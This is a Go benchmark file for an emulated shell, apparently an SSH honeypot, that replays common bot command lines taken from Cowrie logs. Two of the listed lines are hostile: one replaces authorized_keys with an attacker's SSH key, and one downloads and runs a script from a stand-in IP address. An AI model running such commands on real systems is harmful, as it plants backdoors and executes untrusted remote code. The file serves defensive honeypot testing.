package shell

import (
	"context"
	"io"
	"strings"
	"testing"
)

// commonLines are what bots send most (Cowrie logs), with the test registry's programs.
var commonLines = []string{
	"uname -a; cat /proc/cpuinfo | grep name | wc -l",
	"cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
	"echo -e \"\\x61\\x75\\x74\\x68\\x5F\\x6F\\x6B\\x0A\"",
	"cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2E mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh",
	"export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin; uname -s -v -n -r -m",
	"cat /etc/passwd | wc -l; w; uptime; whoami",
	"for i in $(seq 1 3); do echo $i; done",
	"ls -la /dev/shm; cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.1/x.sh; chmod 777 x.sh; sh x.sh",
	"which ls; command -v curl; type wget",
	"if [ -f /etc/os-release ]; then . /etc/os-release; echo $ID; fi",
}

func benchShell(b *testing.B, interactive bool) *Shell {
	img := testImage(b, true)
	img.AddFile("/proc/cpuinfo", strings.Repeat("processor\t: 0\nmodel name\t: Intel(R) Xeon(R) CPU E5-2680 v4 @ 2.40GHz\n", 2), 0o444)
	img.AddFile("/etc/os-release", "ID=debian\nVERSION_ID=\"12\"\n", 0o644)
	return newTestShell(b, testOpts{img: img, interactive: interactive})
}

// BenchmarkRunCommon is the server time of one common bot command line in a live shell.
func BenchmarkRunCommon(b *testing.B) {
	s := benchShell(b, false)
	ctx := context.Background()
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		line := commonLines[i%len(commonLines)]
		s.Run(ctx, line, strings.NewReader(""), io.Discard, io.Discard)
	}
}

// BenchmarkExecRequest is one exec request: a new shell for the line, as sshd starts bash -c.
func BenchmarkExecRequest(b *testing.B) {
	s0 := benchShell(b, false)
	cfg := s0.cfg
	ctx := context.Background()
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		s := New(cfg)
		s.Run(ctx, commonLines[i%len(commonLines)], strings.NewReader(""), io.Discard, io.Discard)
	}
}

// BenchmarkLoginShell is an interactive login: /etc/profile, ~/.profile, ~/.bashrc, prompt.
func BenchmarkLoginShell(b *testing.B) {
	s0 := benchShell(b, true)
	cfg := s0.cfg
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		s := New(cfg)
		_ = s.Prompt()
	}
}
